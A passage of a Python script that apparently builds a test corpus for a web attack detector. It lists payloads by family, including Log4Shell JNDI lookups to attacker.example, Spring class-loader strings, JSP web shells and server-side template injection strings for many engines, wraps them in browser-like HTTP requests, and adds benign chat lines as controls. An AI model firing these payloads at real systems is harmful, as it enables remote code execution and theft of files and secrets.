    "{\"@type\":\"org.apache.tomcat.dbcp.dbcp2.BasicDataSource\",\"driverClassLoader\":"
    "{\"@type\":\"com.sun.org.apache.bcel.internal.util.ClassLoader\"}}",
]
JAVA_SUSPICIOUS_METHOD = [
    "''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')",
    "x.getClass().getClassLoader().loadClass('Evil').newInstance()",
    "Class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('1')",
    "f.setAccessible(true)",
    "c.getDeclaredConstructor().newInstance()",
    "m.invoke(Runtime.getRuntime(), \"id\")",
    "Runtime.getRuntime().exec(\"calc\").waitFor()",
    "getClass().getResourceAsStream('/WEB-INF/web.xml')",
    "Thread.currentThread().getContextClassLoader()",
    "java.lang.System.setSecurityManager(null)",
    "MethodHandles.lookup().findStatic(Runtime.class, \"getRuntime\", MethodType.methodType(Runtime.class))",
    "o.getClass().getDeclaredField(\"modifiers\")",
]
LOG4SHELL = [
    "${jndi:ldap://attacker.example:1389/a}",
    "${jndi:rmi://attacker.example/x}",
    "${jndi:dns://attacker.example/x}",
    "${${lower:j}ndi:ldap://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}ldap://attacker.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
    "${j${upper:n}di:ldaps://attacker.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}",
    "${${date:'j'}ndi:iiop://attacker.example/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
    "${jNdI:lDaP://attacker.example/a}",
]
JAVA_CLASS_LOADING = [
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
    "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
    "class.classLoader.URLs[0]=jar:http://attacker.example/x.jar!/",
    "class.module.classLoader.DefaultAssertionStatus=true",
    "class['module']['classLoader']['resources']",
    "Class.Module.ClassLoader.Resources.Context",
    "class.classLoader.resources.dirContext.docBase=/",
    "class.protectionDomain.codeSource.location",
    "class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=",
    "getClass().getClassLoader().defineClass(\"X\", b, 0, b.length)",
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar\")})"
    ".loadClass(\"X\")",
]
JAVA_SCRIPT_UPLOAD = [
    "shell.jsp",
    "cmd.jspx",
    "index.JSP",
    "upload.jsp;.jpg",
    "shell.jsp.",
    "a.jspf",
    "cmd.jsp::$DATA",
    "x.jsp\x00.png",
    "../webapps/ROOT/s.jsp",
    "WEB-INF/classes/X.class",
    "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
    "<jsp:scriptlet>Runtime.getRuntime().exec(\"id\");</jsp:scriptlet>",
]

# --- ssti -----------------------------------------------------------------------------------------------------
SSTI_JINJA2 = [
    "{{7*7}}",
    "{{config}}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{c()._module.__builtins__['__import__']('os').system('id')}}{% endif %}{% endfor %}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
    "{{ ''['__cla'+'ss__'] }}",
    "{%print(config)%}",
]
SSTI_TWIG = [
    "{{7*'7'}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{app.request.server.all|join(',')}}",
    "{{_self.env.setCache('ftp://attacker.example:21')}}{{_self.env.loadTemplate('backdoor')}}",
    "{{['id',1]|sort('system')}}",
    "{{[0]|reduce('system','id')}}",
    "{% set x = 'id' %}{{ [x]|filter('exec') }}",
    "{{dump(app)}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{source('/etc/passwd')}}",
]
SSTI_FREEMARKER = [
    "${7*7}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>"
    "${ob(\"java.lang.ProcessBuilder\",\"id\").start()}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "<#assign value=\"freemarker.template.utility.JythonRuntime\"?new()><@value>import os;os.system(\"id\")"
    "</@value>",
    "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.Runtime\")}",
    "<#list .data_model?keys as k>${k}</#list>",
    "${object.getClass()}",
    "${'x'?api.getClass()}",
    "#{7*7}",
]
SSTI_VELOCITY = [
    "#set($x=7*7)$x",
    "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))",
    "$class.inspect('java.lang.Runtime').type.getRuntime().exec('id')",
    "#set($str=$class.inspect(\"java.lang.String\").type)",
    "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
    "${request.getClass().getClassLoader()}",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "$ex.waitFor()",
    "$!{session.servletContext}",
    "#set($s=\"\")#set($c=$s.getClass())",
    "#include(\"/etc/passwd\")",
    "#parse(\"../../../../etc/passwd\")",
]
SSTI_THYMELEAF = [
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "*{T(java.lang.Runtime).getRuntime().exec('whoami')}",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x",
    "[[${7*7}]]",
    "[(${T(java.lang.System).getenv()})]",
    "th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"",
    "#{T(java.lang.Runtime).getRuntime().exec('calc')}",
    "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec('id')}",
    "__|$${T(java.lang.Runtime).getRuntime().exec('id')}|__::.x",
    "${T (java.lang.Runtime).getRuntime().exec('id')}",
    "~{::__${7*7}__}",
]
SSTI_ERB = [
    "<%= 7*7 %>",
    "<%= `id` %>",
    "<%= system('id') %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('id') %>",
    "<%= ENV.to_h %>",
    "<%= Kernel.exec('id') %>",
    "<%=%x(whoami)%>",
    "<%- eval('`id`') -%>",
    "<% exec('/bin/sh') %>",
]
SSTI_SMARTY = [
    "{$smarty.version}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
    "{if system('id')}{/if}",
    "{fetch file='/etc/passwd'}",
    "{include file='/etc/passwd'}",
    "{'id'|system}",
    "{$smarty.server.DOCUMENT_ROOT}",
    "{self::getStreamVariable('file:///etc/passwd')}",
    "{passthru('cat /etc/passwd')}",
    "{if phpinfo()}{/if}",
]
SSTI_HANDLEBARS = [
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
    "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
    "{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
    "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}"
    "{{/with}}{{/with}}",
    "{{this.constructor.constructor('return process')()}}",
    "{{#with this as |obj|}}{{obj.constructor.constructor 'return process.env'}}{{/with}}",
    "{{lookup this 'constructor'}}",
    "{{#each (lookup this '__proto__')}}{{@key}}{{/each}}",
    "{{this.__proto__}}",
    "{{constructor.constructor}}",
    "{{{process.env}}}",
    "{{#with (lookup (lookup this 'constructor') 'constructor')}}{{this 'return process'}}{{/with}}",
    "{{> (lookup . 'constructor')}}",
    "{{#if (lookup this 'constructor')}}x{{/if}}",
    "{{#with \"constructor\" as |c|}}{{lookup (lookup this c) c}}{{/with}}",
]
SSTI_MAKO = [
    "${7*7}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${self.module.cache.util.os.system('id')}",
    "${self.template.module.runtime.util.os.popen('id').read()}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
    "${__import__('os').popen('id').read()}",
    "<%namespace file='/etc/passwd' />",
    "<%include file='/etc/passwd'/>",
    "${context.keys()}",
    "% for x in __import__('os').listdir('/'):\n${x}\n% endfor",
    "<%inherit file='/etc/passwd'/>",
    "${self.module.runtime.compat.inspect.os.system('id')}",
]
SSTI_PUG = [
    "#{7*7}",
    "#{root.process.mainModule.require('child_process').execSync('id')}",
    "- var x = root.process\n- x = x.mainModule.require\n- x('child_process').exec('id')",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('id')}()}",
    "p= global.process.mainModule.require('child_process').execSync('id')",
    "!{process.env}",
    "- require('fs').readFileSync('/etc/passwd')",
    "#{global.process.binding('spawn_sync')}",
    "include /etc/passwd",
    "extends ../../../../etc/passwd",
    "#{this.constructor.constructor('return process')()}",
    "script.\n  #{process.mainModule}",
]
SSTI_NUNJUCKS = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{joiner.constructor('return process')()}}",
    "{{cycler.constructor('return process.env')()}}",
    "{% set x = range.constructor('return process')() %}{{x.env}}",
    "{{ lipsum.constructor('return require')() }}",
    "{% include '/etc/passwd' %}",
    "{{ [].constructor.constructor('return process.mainModule')() }}",
    "{{ range.constructor(\"return this.process.env\")() | dump }}",
    "{{ (range.constructor)('return global')().process.kill(1) }}",
    "{% import '/etc/passwd' as x %}",
    "{{ range.constructor('return require(\"fs\").readFileSync(\"/etc/passwd\")')() | safe }}",
    "{{ 7*7 | dump }}",
]
SSTI_TORNADO = [
    "{{7*7}}",
    "{% import os %}{{os.popen('id').read()}}",
    "{% import subprocess %}{{subprocess.check_output('id')}}",
    "{{__import__('os').system('id')}}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% raw __import__('os').popen('id').read() %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{{globals()}}",
    "{% module Template('/etc/passwd') %}",
    "{% extends '/etc/passwd' %}",
    "{{request.headers}}",
]
SSTI_RAZOR = [
    "@(7*7)",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"calc\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
    "@System.Environment.GetEnvironmentVariables()",
    "@System.IO.Directory.GetFiles(\"C:\\\\\")",
    "@(new System.Net.WebClient().DownloadString(\"http://attacker.example/x\"))",
    "@Html.Raw(System.IO.File.ReadAllText(\"web.config\"))",
    "@{ var p = new System.Diagnostics.ProcessStartInfo(\"cmd\",\"/c dir\"); System.Diagnostics.Process.Start(p); }",
    "@System.AppDomain.CurrentDomain.GetAssemblies()",
    "@typeof(System.Diagnostics.Process).Assembly",
    "@functions { void X(){ System.Diagnostics.Process.Start(\"id\"); } }",
]
SSTI_EJS = [
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    "<% require('child_process').exec('id') %>",
    "<%= this.constructor.constructor('return process')().env %>",
    "<%- include('/etc/passwd') %>",
    "<%= global.process.env %>",
    "settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
    "settings[view options][escapeFunction]=1;return global.process.mainModule.constructor._load('child_process')"
    ".execSync('id');",
    "<%# note %><%= process.version %>",
    "<%_ require('fs').writeFileSync('/tmp/x','y') _%>",
    "{\"settings\":{\"view options\":{\"client\":true,\"escapeFunction\":\"1;return process.mainModule"
    ".require('child_process').execSync('id')\"}}}",
    "<%= Object.keys(process.env) %>",
]
SSTI_PEBBLE = [
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ (1).TYPE.forName('java.lang.Runtime') }}",
    "{{ beans }}",
    "{{ request.getClass().getClassLoader() }}",
    "{{ ''.getClass().forName('java.lang.System').getenv() }}",
    "{{ 'a'.getClass().getMethods() }}",
    "{{ (0).TYPE.forName('java.lang.ProcessBuilder') }}",
    "{{ response.writer }}",
    "{{ beans.get('environment').getProperty('spring.datasource.url') }}",
    "{% for m in 'x'.getClass().forName('java.lang.Runtime').getMethods() %}{{ m }}{% endfor %}",
    "{{ [].getClass() }}",
]
SSTI_GO_TEMPLATE = [
    "{{.}}",
    "{{ printf \"%#v\" . }}",
    "{{ .Env }}",
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ file.Read \"/etc/passwd\" }}",
    "{{ call .Exec \"id\" }}",
    "{{ .System \"id\" }}",
    "{{ range $k, $v := . }}{{ $k }}={{ $v }}{{ end }}",
    "{{ index . \"Config\" }}",
    "{{ define \"x\" }}{{ . }}{{ end }}{{ template \"x\" . }}",
    "{{ getenv \"HOME\" }}",
]

# (category, sub-family, payloads), one entry per detection title
TITLES: list[tuple[str, str, list[str]]] = [
    ("lfi", "path-traversal-encoded", PATH_TRAVERSAL_ENCODED),
    ("lfi", "path-traversal-dotdot", PATH_TRAVERSAL_DOTDOT),
    ("lfi", "os-file-access", OS_FILE_ACCESS),
    ("lfi", "restricted-file-access", RESTRICTED_FILE_ACCESS),
    ("lfi", "os-file-in-headers", OS_FILE_IN_HEADERS),
    ("lfi", "path-traversal-triple-dot", PATH_TRAVERSAL_TRIPLE_DOT),
    ("rfi", "rfi-ip-address", RFI_IP_ADDRESS),
    ("rfi", "rfi-vuln-param", RFI_VULN_PARAM),
    ("rfi", "rfi-trailing-qmark", RFI_TRAILING_QMARK),
    ("rfi", "rfi-off-domain", RFI_OFF_DOMAIN),
    ("rce", "unix-cmd-injection", UNIX_CMD_INJECTION),
    ("rce", "unix-cmd-chained", UNIX_CMD_CHAINED),
    ("rce", "windows-cmd-injection", WINDOWS_CMD_INJECTION),
    ("rce", "windows-cmd-chained", WINDOWS_CMD_CHAINED),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-shell-expression", UNIX_SHELL_EXPRESSION),
    ("rce", "windows-for-if", WINDOWS_FOR_IF),
    ("rce", "direct-unix-exec", DIRECT_UNIX_EXEC),
    ("rce", "unix-shell-code", UNIX_SHELL_CODE),
    ("rce", "shellshock-header", SHELLSHOCK_HEADER),
    ("rce", "shellshock-args", SHELLSHOCK_ARGS),
    ("rce", "restricted-file-upload", RESTRICTED_FILE_UPLOAD),
    ("rce", "rce-bypass", RCE_BYPASS),
    ("rce", "unix-cmd-no-evasion", UNIX_CMD_NO_EVASION),
    ("rce", "unix-cmd-evasion", UNIX_CMD_EVASION),
    ("rce", "unix-alias", UNIX_ALIAS),
    ("rce", "unix-history", UNIX_HISTORY),
    ("rce", "unix-pipes-short-cmds", UNIX_PIPES_SHORT_CMDS),
    ("rce", "sqlite-system-cmd", SQLITE_SYSTEM_CMD),
    ("rce", "mail-protocol-cmd", MAIL_PROTOCOL_CMD),
    ("rce", "windows-cmd-evasion", WINDOWS_CMD_EVASION),
    ("rce", "unix-shell-code-headers", UNIX_SHELL_CODE_HEADERS),
    ("rce", "direct-unix-wildcards", DIRECT_UNIX_WILDCARDS),
    ("generic", "nodejs-injection", NODEJS_INJECTION),
    ("generic", "nodejs-injection-2", NODEJS_INJECTION_2),
    ("generic", "ssrf-cloud-metadata", SSRF_CLOUD_METADATA),
    ("generic", "ssrf-ip-url", SSRF_IP_URL),
    ("generic", "prototype-pollution", PROTOTYPE_POLLUTION),
    ("generic", "ruby-injection", RUBY_INJECTION),
    ("generic", "perl-injection", PERL_INJECTION),
    ("generic", "nodejs-dos", NODEJS_DOS),
    ("generic", "php-data-scheme", PHP_DATA_SCHEME),
    ("java", "java-suspicious-class", JAVA_SUSPICIOUS_CLASS),
    ("java", "java-process-spawn", JAVA_PROCESS_SPAWN),
    ("java", "java-serialization", JAVA_SERIALIZATION),
    ("java", "java-class-keywords", JAVA_CLASS_KEYWORDS),
    ("java", "java-magic-bytes", JAVA_MAGIC_BYTES),
    ("java", "java-magic-base64", JAVA_MAGIC_BASE64),
    ("java", "java-serialization-2", JAVA_SERIALIZATION_2),
    ("java", "java-suspicious-method", JAVA_SUSPICIOUS_METHOD),
    ("java", "log4shell", LOG4SHELL),
    ("java", "java-class-loading", JAVA_CLASS_LOADING),
    ("java", "java-script-upload", JAVA_SCRIPT_UPLOAD),
    ("ssti", "ssti-jinja2", SSTI_JINJA2),
    ("ssti", "ssti-twig", SSTI_TWIG),
    ("ssti", "ssti-freemarker", SSTI_FREEMARKER),
    ("ssti", "ssti-velocity", SSTI_VELOCITY),
    ("ssti", "ssti-thymeleaf", SSTI_THYMELEAF),
    ("ssti", "ssti-erb", SSTI_ERB),
    ("ssti", "ssti-smarty", SSTI_SMARTY),
    ("ssti", "ssti-handlebars", SSTI_HANDLEBARS),
    ("ssti", "ssti-mako", SSTI_MAKO),
    ("ssti", "ssti-pug", SSTI_PUG),
    ("ssti", "ssti-nunjucks", SSTI_NUNJUCKS),
    ("ssti", "ssti-tornado", SSTI_TORNADO),
    ("ssti", "ssti-razor", SSTI_RAZOR),
    ("ssti", "ssti-ejs", SSTI_EJS),
    ("ssti", "ssti-pebble", SSTI_PEBBLE),
    ("ssti", "ssti-go-template", SSTI_GO_TEMPLATE),
]
# sub-families whose payloads are bytes (read as latin-1), percent-encoded byte for byte
BYTE_SUBS = {"java-magic-bytes"}

# --- the requests ---------------------------------------------------------------------------------------------
ORIGIN = "https://app.example.com"
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
    "Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Mobile/15E148 Safari/604.1",
]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
         "es-ES,es;q=0.9,en;q=0.8", "ja,en-US;q=0.9,en;q=0.8", "nl-NL,nl;q=0.9,en;q=0.8", "pt-BR,pt;q=0.9"]
PAGES = ["/users", "/admin/users", "/settings/profile", "/dashboard", "/users?page=2", "/admin/users/search",
         "/team/members", "/reports/weekly"]
CONSENTS = ["consent=all", "consent=necessary", "cookie_consent=accepted", "cc_cookie=%7B%22level%22%3A%5B%22necessary"
            "%22%2C%22analytics%22%5D%7D", "CookieConsent=true"]
PROFILE = {"name": "Dana Whitfield", "email": "dana.whitfield@example.com", "title": "Account Manager",
           "department": "Sales", "location": "Leeds, UK", "timezone": "Europe/London"}
JSON_FIELDS = ["name", "bio", "title", "department", "email", "location", "nickname", "website"]
SETTINGS_FIELDS = ["display_name", "signature", "status_text", "timezone", "pronouns", "location"]
LEAD_INS = ["lookup user ", "ticket title: ", "hey bot, ", "search ", "can you check ", "bug report: ",
            "please save this as my status: ", "find "]
# an 11-slot cycle: the five main places twice, the sixth ("alt") once
SLOTS = ["query", "form", "json", "path", "header", "query", "form", "json", "path", "header", "alt"]
PATH_SAFE = "!$&'()*+,;=:@-._~[]|^"
COOKIE_SAFE = "-_.!~*'()"


class Gen:
    """Requests with a browser's headers, from one seeded random source."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.header_n = 0
        self.json_n = 0
        self.alt_n = 0
        self.path_n = 0
        self.slack_n = 0

    def token(self, n: int = 24) -> str:
        return "".join(self.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
                       for _ in range(n))

    def hexs(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def cookie(self) -> str:
        return f"session={self.token(32)}; {self.rng.choice(CONSENTS)}"

    def headers(self, kind: str) -> dict[str, str]:
        """A browser's headers for an XHR ("xhr"), a JSON write ("json") or a form post ("form")."""
        h = {"User-Agent": self.rng.choice(BROWSER_UAS)}
        if kind == "form":
            h["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
        else:
            h["Accept"] = "application/json, text/plain, */*"
        h["Accept-Language"] = self.rng.choice(LANGS)
        h["Accept-Encoding"] = "gzip, deflate, br, zstd"
        h["Referer"] = ORIGIN + self.rng.choice(PAGES)
        if kind in ("json", "form"):
            h["Origin"] = ORIGIN
            h["Content-Type"] = ("application/json" if kind == "json" else "application/x-www-form-urlencoded")
        if kind == "form":
            h.update({"Sec-Fetch-Dest": "document", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "same-origin",
                      "Sec-Fetch-User": "?1", "Upgrade-Insecure-Requests": "1"})
        else:
            h.update({"Sec-Fetch-Dest": "empty", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Site": "same-origin"})
        h["Cookie"] = self.cookie()
        return h

    def query(self, value: str, enc: str = "utf-8", name: str = "q") -> dict[str, Any]:
        params = [(name, value), ("page", str(self.rng.randint(1, 9))),
                  ("per_page", self.rng.choice(["20", "50", "100"]))]
        self.rng.shuffle(params)
        uri = "/api/users?" + urllib.parse.urlencode(params, encoding=enc)
        return {"method": "GET", "uri": uri, "body": "", "headers": self.headers("xhr")}

    def form(self, value: str, enc: str = "utf-8", uri: str = "/admin/users/search",
             name: str = "q") -> dict[str, Any]:
        fields = [("csrf_token", self.token(32)), (name, value)]
        return {"method": "POST", "uri": uri, "body": urllib.parse.urlencode(fields, encoding=enc),
                "headers": self.headers("form")}

    def user_json(self, field: str, value: str, uri: str = "/api/users", method: str = "POST") -> dict[str, Any]:
        doc = {k: v for k, v in PROFILE.items() if k != field}
        doc[field] = value
        return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False),
                "headers": self.headers("json")}

    def slack(self, text: str) -> dict[str, Any]:
        self.slack_n += 1
        epoch = 1733400000 + 37 * self.slack_n
        ts = f"{epoch}.{self.rng.randint(100000, 999999)}"
        event = {"type": self.rng.choice(["message", "app_mention"]), "user": "U0" + self.token(9).upper()
                 .replace("-", "K").replace("_", "Q"), "text": text, "ts": ts, "channel": "C07QX3M2L5B"}
        body = {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": "T02ABCD1E", "api_app_id": "A05XYZ12345",
                "event": event, "type": "event_callback", "event_id": f"Ev0{self.hexs(9).upper()}",
                "event_time": epoch}
        headers = {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
                   "Accept-Encoding": "gzip,deflate", "Content-Type": "application/json",
                   "X-Slack-Request-Timestamp": str(epoch), "X-Slack-Signature": "v0=" + self.hexs(64)}
        return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
                "headers": headers}

    def path(self, value: str, enc: str = "utf-8") -> dict[str, Any]:
        self.path_n += 1
        seg = urllib.parse.quote(value, safe=PATH_SAFE, encoding=enc)
        base = "/api/users/" if self.path_n % 3 else "/api/"
        return {"method": "GET", "uri": base + seg, "body": "", "headers": self.headers("xhr")}

    def header(self, value: str, enc: str = "utf-8") -> tuple[dict[str, Any], str]:
        """The value as the User-Agent (mostly), the Referer or a cookie; values a header cannot carry raw
        (control or non-ASCII characters) go into a percent-encoded cookie."""
        self.header_n += 1
        uri = "/api/users?" + urllib.parse.urlencode([("page", str(self.rng.randint(1, 5))), ("per_page", "50")])
        h = self.headers("xhr")
        raw_ok = all(0x20 <= ord(c) < 0x7f for c in value)
        pick = self.header_n % 5
        if raw_ok and pick in (0, 1, 3):
            h["User-Agent"] = value
            where = "header:User-Agent"
        elif raw_ok and pick == 2:
            h["Referer"] = ORIGIN + "/users?q=" + urllib.parse.quote_plus(value)
            where = "header:Referer"
        else:
            name = self.rng.choice(["last_search", "prefs", "recent_user", "ui_state"])
            h["Cookie"] = f"{h['Cookie']}; {name}={urllib.parse.quote(value, safe=COOKIE_SAFE, encoding=enc)}"
            where = "cookie"
        return {"method": "GET", "uri": uri, "body": "", "headers": h}, where

    def json_place(self, value: str, lead: bool = True) -> tuple[dict[str, Any], str]:
        self.json_n += 1
        if self.json_n % 2:
            return self.user_json(JSON_FIELDS[self.json_n // 2 % len(JSON_FIELDS)], value), "json"
        text = (LEAD_INS[self.json_n // 2 % len(LEAD_INS)] + value) if lead else value
        return self.slack(text), "json"

    def alt(self, value: str, enc: str = "utf-8") -> tuple[dict[str, Any], str]:
        self.alt_n += 1
        if self.alt_n % 2:
            field = JSON_FIELDS[self.alt_n // 2 % len(JSON_FIELDS)]
            return self.user_json(field, value, "/api/users/42", "PATCH"), "json"
        name = SETTINGS_FIELDS[self.alt_n // 2 % len(SETTINGS_FIELDS)]
        return self.form(value, enc, "/me/settings", name), "form"

    def place(self, slot: str, value: str, enc: str = "utf-8") -> tuple[dict[str, Any], str]:
        if slot == "query":
            return self.query(value, enc), "query"
        if slot == "form":
            return self.form(value, enc), "form"
        if slot == "json":
            return self.json_place(value)
        if slot == "path":
            return self.path(value, enc), "path"
        if slot == "header":
            return self.header(value, enc)
        return self.alt(value, enc)


def attacks() -> Iterator[dict[str, Any]]:
    gen = Gen(84)
    n = 0
    for t, (category, sub, payloads) in enumerate(TITLES):
        enc = "latin-1" if sub in BYTE_SUBS else "utf-8"
        for i, payload in enumerate(payloads):
            slot = SLOTS[(t * 3 + i) % len(SLOTS)]
            rec, where = gen.place(slot, payload, enc)
            n += 1
            yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                   "placement": where, "payload": payload}


# --- benign ---------------------------------------------------------------------------------------------------
CHAT = [
    "can someone cat the deploy log and paste the last 20 lines here?",
    "the id on that ticket is 4417, not 4471",
    "ls shows the file is there but the app can't read it, permissions maybe",
    "ping me when you're back from lunch",
    "I'll run the system tests again after the merge",
    "the exec summary is due Friday, who's writing the intro?",
    "reset my passwd on the VPN box please, it expired",
    "logs are under /var/log/app on the new hosts, not /opt anymore",
    "the Windows build needs `dir /s` replaced with a python script",
    "Runtime of the nightly job went from 12 to 19 minutes",
    "our Java 21 upgrade is done, ProcessBuilder calls still work",
    "template for the welcome mail uses {{first_name}} and {{company}}",
    "Hello {{ user.name }}, your invoice for {{ month }} is ready",
    "the Jinja macro for the footer is in templates/base.html",
    "use ${HOME}/bin instead of hardcoding the path in the README",
    "price field shows $ {amount} with a space, looks odd",
    "for each region if the quota is hit we send an alert",
    "who has the PowerShell script that rotates the certs?",
    "Get-Process shows two node processes on the build agent",
    "bash or zsh? I switched to zsh last year and never looked back",
    "the shell in the container is /bin/sh, bash isn't installed",
    "curl the health endpoint and check it returns 200",
    "wget isn't on the image, use curl -O",
    "python -m venv .venv && source .venv/bin/activate",
    "require('express') is all you need for that tiny service",
    "the constructor sets up the prototype chain, see chapter 6",
    "process.env.PORT defaults to 3000 locally",
    "we removed eval from the calculator widget last sprint",
    "Log4j is patched everywhere, JNDI lookups disabled by default",
    "the class loader leak in Tomcat went away after the restart",
    "serialization format for the cache is JSON now, not Java objects",
    "the metadata service on our cloud account is locked to IMDSv2",
    "localhost:8080 is the API in docker compose, 3000 the UI",
    "the office router is at 192.168.1.1 if you need to reboot it",
    "data: URLs for the small icons are inlined by the bundler",
    "file:// links don't open from Slack, paste the share link instead",
    "the Ruby team meets Tuesdays, the Perl folks retired that service",
    "Rails console: User.find(42).update(role: 'viewer')",
    "the .env file is gitignored, ask me for the dev values",
    "the .htaccess rules were moved into nginx config last year",
    "web.config is only for the old IIS site, ignore it",
    "I put the SQLite file in data/app.db for the demo",
